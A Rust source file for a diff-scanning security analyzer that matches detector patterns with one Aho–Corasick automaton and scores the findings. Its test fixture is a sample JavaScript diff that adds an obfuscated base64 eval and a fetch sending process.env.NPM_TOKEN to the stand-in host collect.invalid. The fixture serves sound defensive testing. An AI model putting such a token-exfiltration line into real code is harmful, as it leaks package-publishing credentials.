//! The [`Analyzer`]: built once from the detector registry, the rule packs and the risk model;
//! then `analyze` is a single pass over each hunk's text with one Aho–Corasick automaton that
//! holds every line pattern of every detector and rule.

use std::collections::HashMap;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicU64, Ordering};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use regex::Regex;

use crate::change::{Change, LineKind};
use crate::classify::{FileClass, classify};
use crate::detector::{ChangeCtx, Detector, FileCtx, Hit, HunkCtx, LinePattern, RoleHit};
use crate::finding::{Finding, Findings, excerpt};
use crate::report::{AnalyzerInfo, Report, Summary, Suppressed};
use crate::rules::{self, RuleError};
use crate::score::Model;
use crate::suppress::Suppressions;

/// The analyzer could not be built.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum BuildError {
    #[error(transparent)]
    Rule(#[from] RuleError),
    #[error("two detectors or rules share the id {0:?}; ids must be unique")]
    DuplicateId(String),
    #[error("detector {detector}: pattern {literal:?} {message}")]
    Pattern {
        detector: String,
        literal: String,
        message: String,
    },
    #[error("cannot compile the pattern automaton: {0}")]
    Automaton(String),
}

/// At most this many findings of one detector in one file are kept (highest score first): a
/// minified bundle must not drown the report.
pub const MAX_FINDINGS_PER_DETECTOR_AND_FILE: usize = 25;
/// At most this many findings in a report.
pub const MAX_FINDINGS: usize = 1000;

/// After this many bytes of hunk text have been scanned by one analyzer, it switches to a DFA.
///
/// Why two automata: the NFA builds in about a millisecond, which keeps `s-express analyze`
/// on one pull request fast, but scans at a fraction of the DFA's speed (it follows failure
/// transitions; the DFA does one table lookup per byte). The DFA costs several milliseconds
/// and a few MB to build, which pays for itself after a few MB of text. Both are built from
/// the same literals with the same options, so they report the same matches in the same
/// order: which one ran never changes a report.
const DFA_AFTER_BYTES: u64 = 2 << 20;

struct Compiled {
    detector: u32,
    local: u32,
    regex: OnceLock<Option<Regex>>,
}

/// Builds an [`Analyzer`].
#[derive(Debug, Default)]
pub struct AnalyzerBuilder {
    builtin_rules: bool,
    builtin_detectors: bool,
    packs: Vec<(String, String)>,
    model: Option<Model>,
}

impl AnalyzerBuilder {
    /// Include the shipped rule packs (on by default with [`Analyzer::builder`]).
    pub fn builtin_rules(mut self, on: bool) -> Self {
        self.builtin_rules = on;
        self
    }

    /// Include the Rust detectors of the registry.
    pub fn builtin_detectors(mut self, on: bool) -> Self {
        self.builtin_detectors = on;
        self
    }

    /// Add a user rule pack (validated strictly at build).
    pub fn pack(mut self, name: impl Into<String>, text: impl Into<String>) -> Self {
        self.packs.push((name.into(), text.into()));
        self
    }

    /// Use these weights instead of the shipped ones.
    pub fn model(mut self, m: Model) -> Self {
        self.model = Some(m);
        self
    }

    pub fn build(self) -> Result<Analyzer, BuildError> {
        let mut detectors: Vec<Box<dyn Detector>> = Vec::new();
        if self.builtin_detectors {
            detectors.extend(crate::detectors::registry());
        }
        if self.builtin_rules {
            for (name, text) in rules::builtin_packs() {
                for r in rules::load_pack(name, text, false)? {
                    detectors.push(Box::new(r));
                }
            }
        }
        for (name, text) in &self.packs {
            for r in rules::load_pack(name, text, true)? {
                detectors.push(Box::new(r));
            }
        }
        Analyzer::from_detectors(detectors, self.model.unwrap_or_else(Model::builtin))
    }
}

/// A compiled analyzer. Build it once and reuse it for many changes; it is `Send + Sync`.
pub struct Analyzer {
    detectors: Vec<Box<dyn Detector>>,
    patterns: Vec<Compiled>,
    automaton: Option<AhoCorasick>,
    /// The same automaton as a DFA, built on first use once `scanned` passes `dfa_after`
    /// (`None` inside if building it failed, e.g. over the DFA size limit: the NFA goes on).
    dfa: OnceLock<Option<AhoCorasick>>,
    scanned: AtomicU64,
    dfa_after: u64,
    /// Some pattern applies to context lines. When none does (the built-in set), only runs
    /// of added and removed lines are scanned: no literal holds a newline, so no match can
    /// cross into or out of a context line, and matches inside one would be dropped anyway.
    scan_context: bool,
    model: Model,
}

impl std::fmt::Debug for Analyzer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Analyzer")
            .field("detectors", &self.detectors.len())
            .field("patterns", &self.patterns.len())
            .finish()
    }
}

/// Options for one analysis.
#[derive(Debug, Default, Clone)]
pub struct AnalyzeOptions {
    pub suppressions: Suppressions,
}

impl Analyzer {
    /// A builder with the shipped detectors and rule packs.
    pub fn builder() -> AnalyzerBuilder {
        AnalyzerBuilder {
            builtin_rules: true,
            builtin_detectors: true,
            ..AnalyzerBuilder::default()
        }
    }

    /// The shipped detectors, rule packs and model.
    pub fn builtin() -> Result<Self, BuildError> {
        Self::builder().build()
    }

    /// Build from an explicit detector list (tests use this to run one detector alone).
    pub fn from_detectors(
        detectors: Vec<Box<dyn Detector>>,
        model: Model,
    ) -> Result<Self, BuildError> {
        let mut ids = std::collections::HashSet::new();
        for d in &detectors {
            if !ids.insert(d.meta().id.to_string()) {
                return Err(BuildError::DuplicateId(d.meta().id.to_string()));
            }
        }
        let mut literals: Vec<&str> = Vec::new();
        let mut patterns = Vec::new();
        let mut scan_context = false;
        for (di, d) in detectors.iter().enumerate() {
            for (pi, p) in d.line_patterns().iter().enumerate() {
                if p.literal.is_empty() || p.literal.contains('\n') {
                    return Err(BuildError::Pattern {
                        detector: d.meta().id.to_string(),
                        literal: p.literal.to_string(),
                        message: "must be non-empty and on one line".into(),
                    });
                }
                literals.push(p.literal);
                scan_context |= p.lines.admits(LineKind::Context);
                patterns.push(Compiled {
                    detector: di as u32,
                    local: pi as u32,
                    regex: OnceLock::new(),
                });
            }
        }
        let automaton = if literals.is_empty() {
            None
        } else {
            Some(
                automaton_builder(AhoCorasickKind::ContiguousNFA)
                    .build(&literals)
                    .map_err(|e| BuildError::Automaton(e.to_string()))?,
            )
        };
        Ok(Self {
            detectors,
            patterns,
            automaton,
            dfa: OnceLock::new(),
            scanned: AtomicU64::new(0),
            dfa_after: DFA_AFTER_BYTES,
            scan_context,
            model,
        })
    }

    /// The automaton to scan `len` more bytes with: the NFA until this analyzer has scanned
    /// `dfa_after` bytes in total, then the DFA (built once, by whichever thread gets there
    /// first).
    fn automaton_for(&self, len: usize) -> Option<&AhoCorasick> {
        let nfa = self.automaton.as_ref()?;
        let before = self.scanned.fetch_add(len as u64, Ordering::Relaxed);
        if before.saturating_add(len as u64) < self.dfa_after {
            return Some(nfa);
        }
        let dfa = self.dfa.get_or_init(|| {
            let literals: Vec<&str> = self
                .patterns
                .iter()
                .map(|c| self.pattern(c).literal)
                .collect();
            automaton_builder(AhoCorasickKind::DFA)
                .build(&literals)
                .ok()
        });
        Some(dfa.as_ref().unwrap_or(nfa))
    }

    /// Metadata of every detector and rule, in registry order.
    pub fn detectors(&self) -> impl Iterator<Item = &dyn Detector> {
        self.detectors.iter().map(|d| d.as_ref())
    }

    /// Number of line patterns in the automaton.
    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }

    pub fn model(&self) -> &Model {
        &self.model
    }

    fn pattern(&self, c: &Compiled) -> &LinePattern {
        // Indices were taken from these same slices at build time.
        &self.detectors[c.detector as usize].line_patterns()[c.local as usize]
    }

    /// Analyze a change with no suppressions.
    pub fn analyze(&self, change: &Change) -> Report {
        self.analyze_with(change, &AnalyzeOptions::default())
    }

    /// Analyze a change.
    pub fn analyze_with(&self, change: &Change, opts: &AnalyzeOptions) -> Report {
        let classes: Vec<FileClass> = change.files.iter().map(|f| classify(f.path())).collect();
        let mut out = Findings::new();
        let mut spans = Vec::new();
        for (fi, file) in change.files.iter().enumerate() {
            let class = &classes[fi];
            let mut roles: Vec<RoleHit> = Vec::new();
            let scan_ctx = FileCtx {
                change,
                file,
                index: fi,
                class,
                roles: &[],
            };
            for (hi, hunk) in file.hunks.iter().enumerate() {
                self.scan_hunk(hunk, hi, &scan_ctx, &mut roles, &mut spans, &mut out);
            }
            let fctx = FileCtx {
                roles: &roles,
                ..scan_ctx
            };
            for (hi, hunk) in file.hunks.iter().enumerate() {
                let hctx = HunkCtx {
                    file: fctx,
                    hunk,
                    index: hi,
                };
                for d in &self.detectors {
                    d.check_hunk(&hctx, &mut out);
                }
            }
            for d in &self.detectors {
                d.check_file(&fctx, &mut out);
            }
        }
        let cctx = ChangeCtx {
            change,
            classes: &classes,
        };
        for d in &self.detectors {
            d.check_change(&cctx, &mut out);
        }
        self.finish(change, &classes, out.into_vec(), opts)
    }

    fn scan_hunk(
        &self,
        hunk: &crate::change::Hunk,
        hunk_index: usize,
        fctx: &FileCtx<'_>,
        roles: &mut Vec<RoleHit>,
        spans: &mut Vec<std::ops::Range<usize>>,
        out: &mut Findings,
    ) {
        let text = hunk.text.as_bytes();
        spans.clear();
        if self.scan_context {
            spans.push(0..text.len());
        } else {
            // Maximal runs of added/removed lines, each one contiguous range of the text.
            for l in hunk.lines.iter().filter(|l| l.kind != LineKind::Context) {
                let (start, end) = (l.start as usize, l.end as usize);
                match spans.last_mut() {
                    // The previous line ended just before this one's newline-separated start.
                    Some(last) if last.end + 1 == start => last.end = end,
                    _ => spans.push(start..end),
                }
            }
        }
        let total: usize = spans.iter().map(|r| r.len()).sum();
        if total == 0 {
            return;
        }
        let Some(ac) = self.automaton_for(total) else {
            return;
        };
        // Matches arrive ordered by end offset (and spans in text order), so all matches of
        // one line are contiguous: a small per-line list dedupes (pattern, line) pairs
        // without a hash set.
        let mut cur_line = usize::MAX;
        let mut seen: Vec<u32> = Vec::new();
        let matches = spans
            .iter()
            .filter_map(|r| Some((r.start, text.get(r.clone())?)));
        for (base, m) in matches
            .flat_map(|(base, slice)| ac.find_overlapping_iter(slice).map(move |m| (base, m)))
        {
            let (m_start, m_end) = (base + m.start(), base + m.end());
            let pid = m.pattern().as_usize();
            let Some(cp) = self.patterns.get(pid) else {
                continue;
            };
            let Some(li) = hunk.line_index_at(m_start) else {
                continue;
            };
            let Some(line) = hunk.lines.get(li) else {
                continue;
            };
            let pat = self.pattern(cp);
            if !pat.lines.admits(line.kind) {
                continue;
            }
            if !pat.files.is_empty() && !pat.files.iter().any(|s| s.admits(fctx.class)) {
                continue;
            }
            if !pat.ignore_case && text.get(m_start..m_end) != Some(pat.literal.as_bytes()) {
                continue;
            }
            if li != cur_line {
                cur_line = li;
                seen.clear();
            }
            if seen.contains(&(pid as u32)) {
                continue;
            }
            seen.push(pid as u32);
            let line_text = hunk.line_text(line);
            let range = match &pat.regex {
                None => {
                    let s = m_start - line.start as usize;
                    s..s + m.len()
                }
                Some(src) => {
                    let re = cp.regex.get_or_init(|| Regex::new(src).ok());
                    match re.as_ref().and_then(|re| re.find(line_text)) {
                        Some(rm) => rm.range(),
                        None => continue,
                    }
                }
            };
            let line_no = match line.kind {
                LineKind::Removed => line.old_line.unwrap_or(0),
                _ => line.new_line.unwrap_or(0),
            };
            if let Some((role, kind)) = pat.role {
                roles.push(RoleHit {
                    role,
                    kind,
                    hunk: hunk_index,
                    line: line_no,
                    text: excerpt(line_text.get(range.clone()).unwrap_or(""), 120),
                });
            }
            let hit = Hit {
                pattern: cp.local as usize,
                hunk,
                hunk_index,
                line,
                line_no,
                text: line_text,
                range,
            };
            self.detectors[cp.detector as usize].on_hit(&hit, fctx, out);
        }
    }

    fn finish(
        &self,
        change: &Change,
        classes: &[FileClass],
        raw: Vec<Finding>,
        opts: &AnalyzeOptions,
    ) -> Report {
        let class_of: HashMap<&str, &FileClass> = change
            .files
            .iter()
            .zip(classes)
            .map(|(f, c)| (f.path(), c))
            .collect();
        let mut kept = Vec::with_capacity(raw.len());
        let mut suppressed = Vec::new();
        let mut seen = std::collections::HashSet::new();
        for mut f in raw {
            if !seen.insert((f.id.clone(), f.path.clone(), f.line, f.fingerprint.clone())) {
                continue;
            }
            if let Some(s) = opts.suppressions.matching(&f) {
                suppressed.push(Suppressed {
                    id: f.id,
                    path: f.path,
                    line: f.line,
                    reason: s.reason.clone(),
                });
                continue;
            }
            f.score = (self
                .model
                .finding_score(&f, class_of.get(f.path.as_str()).copied())
                * 1e6)
                .round()
                / 1e6;
            kept.push(f);
        }
        kept.sort_by(|a, b| {
            b.score
                .total_cmp(&a.score)
                .then_with(|| b.severity.cmp(&a.severity))
                .then_with(|| a.path.cmp(&b.path))
                .then_with(|| a.line.cmp(&b.line))
                .then_with(|| a.id.cmp(&b.id))
                .then_with(|| a.evidence.cmp(&b.evidence))
        });
        let mut per: HashMap<(String, String), usize> = HashMap::new();
        kept.retain(|f| {
            let n = per.entry((f.id.clone(), f.path.clone())).or_insert(0);
            *n += 1;
            *n <= MAX_FINDINGS_PER_DETECTOR_AND_FILE
        });
        kept.truncate(MAX_FINDINGS);
        let risk = self.model.risk(&kept);
        let summary = Summary {
            files: change.files.len(),
            added_lines: change.files.iter().map(|f| f.added_lines().count()).sum(),
            removed_lines: change.files.iter().map(|f| f.removed_lines().count()).sum(),
            binary_files: change.files.iter().filter(|f| f.binary.is_some()).count(),
            commits: change.commits.len(),
        };
        Report {
            schema_version: crate::report::SCHEMA_VERSION,
            analyzer: AnalyzerInfo {
                name: "s-express".into(),
                version: env!("CARGO_PKG_VERSION").into(),
                model_version: self.model.version,
                detectors: self.detectors.len(),
            },
            risk,
            findings: kept,
            summary,
            suppressed,
            notes: change.parse_notes.clone(),
        }
    }
}

/// The one place the automaton's matching options are set, so the NFA and the DFA agree.
fn automaton_builder(kind: AhoCorasickKind) -> AhoCorasickBuilder {
    let mut b = AhoCorasickBuilder::new();
    b.ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .kind(Some(kind));
    b
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIFF: &str = "diff --git a/lib/x.js b/lib/x.js
--- a/lib/x.js
+++ b/lib/x.js
@@ -1,3 +1,6 @@
 const a = require('a');
+eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
+const t = Date.now(); while (Date.now() - t < 10) {}
+fetch('https://collect.invalid/?k=' + process.env.NPM_TOKEN);
 module.exports = a;
-// \u{200d}old
 // end
";

    #[test]
    fn the_dfa_and_the_nfa_produce_the_same_report() {
        let change = crate::diff::parse(DIFF.as_bytes(), &crate::diff::Limits::default()).unwrap();
        let nfa = Analyzer::builtin().unwrap();
        let mut dfa = Analyzer::builtin().unwrap();
        dfa.dfa_after = 0;
        let (by_nfa, by_dfa) = (nfa.analyze(&change), dfa.analyze(&change));
        assert!(
            nfa.dfa.get().is_none(),
            "a small change must not build the DFA"
        );
        assert!(
            matches!(dfa.dfa.get(), Some(Some(_))),
            "the DFA must have been built and used"
        );
        assert!(
            !by_nfa.findings.is_empty(),
            "the sample must exercise the scan"
        );
        assert_eq!(by_nfa, by_dfa);
    }
}
